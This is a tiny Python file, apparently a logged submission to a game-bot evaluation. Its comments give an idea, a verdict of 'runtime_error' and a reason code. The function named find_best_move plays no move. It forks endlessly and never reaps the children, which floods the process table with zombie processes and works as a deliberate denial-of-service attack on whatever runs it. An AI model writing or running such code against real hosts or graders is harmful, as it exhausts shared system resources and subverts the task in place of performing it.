# idea: leaves every child unreaped, so that each holds a place in the process table
# verdict: runtime_error
# reason: 64
import os


def find_best_move(board):
    while True:
        if os.fork() == 0:
            os._exit(0)
